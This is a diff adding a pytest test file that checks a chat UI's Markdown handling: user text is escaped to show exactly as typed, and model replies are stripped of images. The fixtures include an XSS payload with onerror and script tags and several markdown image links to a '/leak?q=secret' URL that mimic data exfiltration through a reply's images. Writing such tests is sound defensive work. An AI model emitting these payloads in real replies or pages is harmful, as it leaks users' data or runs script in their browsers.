@@ -1,0 +1,66 @@
+"""Text through Markdown, checked with a real CommonMark renderer (markdown-it-py): user text shows
+exactly as typed, and a model reply never holds an image, whatever it says."""
+
+from __future__ import annotations
+
+import html
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from ui.markup import escape_markdown, reply_markdown
+
+RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def visible_text(markdown: str) -> str:
+    rendered = RENDERER.render(markdown)
+    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "plain words",
+        "**bold?** _it_ `code` ~~gone~~ # not a heading",
+        "1. not a list\n2) nor this\n- nor a bullet\n+ nor this\n* nor this",
+        "a line\n===\nand\n---",
+        "![title](http://198.51.100.7/leak?q=1) [link](http://x.test)",
+        "<img src=x onerror=alert(1)><script>alert(2)</script>",
+        "back\\slash | pipe > quote {braces} $math$",
+        "中文和 English 混合 😀",
+    ],
+)
+def test_user_text_shows_exactly_as_typed(text: str) -> None:
+    rendered = RENDERER.render(escape_markdown(text))
+    assert (
+        "<img" not in rendered and "<li" not in rendered and "<h1" not in rendered and "<h2" not in rendered
+    )
+    assert visible_text(escape_markdown(text)).split() == text.split()
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "![a cat](http://198.51.100.7/leak?q=secret)",
+        "text ![a](u) more ![b](v)",
+        "![ref image][r]\n\n[r]: http://198.51.100.7/x",
+        "[![nested](http://i.test/a.png)](http://l.test)",
+        "| a | b |\n|---|---|\n| ![x](http://i.test) | y |",
+    ],
+)
+def test_a_reply_never_holds_an_image(reply: str) -> None:
+    rendered = RENDERER.render(reply_markdown(reply))
+    assert "<img" not in rendered
+    assert "<a href" in rendered or "!" in visible_text(reply_markdown(reply))
+
+
+def test_code_in_a_reply_is_left_as_written() -> None:
+    reply = "Use `![x](u)` like this:\n\n```md\n![x](u)\n```\n\nthen ![y](v)"
+    rendered = RENDERER.render(reply_markdown(reply))
+    assert rendered.count("![x](u)") == 2  # both code spans kept their text
+    assert "<img" not in rendered
+    assert "**bold**" not in reply_markdown("**bold**") or "<strong>" in RENDERER.render(
+        reply_markdown("**bold**")
+    )
